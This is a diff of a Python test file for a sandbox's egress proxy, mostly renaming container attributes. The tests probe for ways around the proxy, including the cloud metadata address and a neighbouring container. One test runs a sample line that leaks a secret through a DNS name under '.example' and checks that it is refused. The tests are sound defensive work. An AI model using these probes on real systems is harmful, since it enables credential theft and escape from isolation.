@@ -101,10 +101,10 @@ def test_there_is_no_way_around_the_proxy(trials: Trials, port: int) -> None:
     thread = threading.Thread(target=run_attempt, args=(other,))
     thread.start()
     try:
-        wait_until(lambda: address_of(other.container_name) is not None, "the other trial")
-        neighbour = address_of(other.container_name)
+        wait_until(lambda: address_of(other.container.name) is not None, "the other trial")
+        neighbour = address_of(other.container.name)
         assert neighbour is not None
-        proxies = addresses_of(f"{other.container_name}-egress")
+        proxies = addresses_of(f"{other.container.name}-egress")
         addresses = [a for a in local_addresses() if not a.startswith("127.")]
         targets = [*((a, port) for a in [bridge_address(), *addresses]), (neighbour, 7000)]
         targets += [(address, 3128) for address in proxies] + [("169.254.169.254", 80)]
@@ -128,7 +128,7 @@ def test_there_is_no_way_around_the_proxy(trials: Trials, port: int) -> None:
             )
         )
     finally:
-        (other.folder / "out" / "gate").touch()
+        (other.container.folder / "out" / "gate").touch()
         thread.join()
     printed = said(trials, result, "agent")
     answer, v6 = printed.pop("answer"), printed.pop("v6")
@@ -141,13 +141,14 @@ def test_there_is_no_way_around_the_proxy(trials: Trials, port: int) -> None:
 def test_names_are_asked_for_in_the_trial_itself(trials: Trials) -> None:
     """The engine resolves names in the container itself, so that no name leaves this machine."""
     only = spec_of(trials, "")
-    assert network_config(only, "agent")[1]["Dns"] == ["127.0.0.1"]
+    assert network_config(only.container, "agent")[1]["Dns"] == ["127.0.0.1"]
     grading = {"mode": "after_agent", "network": "full"}
     assert (
-        "127.0.0.1" not in network_config(spec_of(trials, "", grading=grading), "agent")[1]["Dns"]
+        "127.0.0.1"
+        not in network_config(spec_of(trials, "", grading=grading).container, "agent")[1]["Dns"]
     )
     plain = trials.spec(runtime={"network": "full"})
-    assert network_config(plain, "agent") == (
+    assert network_config(plain.container, "agent") == (
         {"Hostname": "trial", "NetworkDisabled": False},
         {"NetworkMode": "default"},
     )
@@ -271,11 +272,11 @@ def test_a_proxy_that_dies(trials: Trials, port: int) -> None:
         "say(found=[first, second, third])"
     )
     spec = spec_of(trials, waits)
-    proxy = f"{spec.container_name}-egress"
+    proxy = f"{spec.container.name}-egress"
     results: list[AttemptResult] = []
     thread = threading.Thread(target=lambda: results.append(run_attempt(spec)))
     thread.start()
-    out = spec.folder / "out"
+    out = spec.container.folder / "out"
     wait_until(lambda: b"killed" in printed(spec), "the first request")
     os.kill(int(docker("inspect", "-f", "{{.State.Pid}}", proxy)), signal.SIGKILL)
     wait_until(lambda: docker("inspect", "-f", "{{.RestartCount}}", proxy) == "1", "a restart")
@@ -292,7 +293,7 @@ def test_a_proxy_that_dies(trials: Trials, port: int) -> None:
 def test_half_of_a_proxy(trials: Trials, port: int, left: str) -> None:
     """A proxy that a dying coordinator left incomplete is completed or replaced."""
     spec = spec_of(trials, f"say(own=fetch({machine_url(port)!r}))")
-    proxy = proxy_of(spec, "agent")
+    proxy = proxy_of(spec.container, "agent")
     assert proxy is not None
     Networks(ENGINE).provide_internal(proxy.name, proxy.labels)
     if left == "container":
@@ -310,7 +311,7 @@ def test_secrets_in_names(trials: Trials) -> None:
     secret = "s3cretvalue"
     asks = "fetch('http://' + os.environ['SECRET'] + '.example/')"
     spec = spec_of(trials, asks, environment={"KEY": secret})
-    spec.settings.phases["agent"].env["SECRET"] = "$KEY"
+    spec.container.settings.phases["agent"].env["SECRET"] = "$KEY"
     result = run_attempt(spec)
     ((what, host),) = connections(result)
     assert (what, host.endswith(".example")) == ("refused", True)
@@ -320,14 +321,14 @@ def test_secrets_in_names(trials: Trials) -> None:
 def test_without_its_image_no_trial_starts(trials: Trials) -> None:
     """If the proxy's image is gone, the trial does not start with another network."""
     spec = spec_of(trials, "")
-    object.__setattr__(spec, "plan", replace(spec.plan, egress_image=None))
+    spec = replace(spec, plan=replace(spec.plan, egress_image=None))
     with pytest.raises(EngineUnavailable, match="no image for the egress proxy"):
         run_attempt(spec)
     assert trials.containers() == []
 
 
 def printed(spec: AttemptSpec) -> bytes:
-    path = spec.folder / "state" / "agent.stdout"
+    path = spec.container.folder / "state" / "agent.stdout"
     return path.read_bytes() if path.exists() else b""
 
 
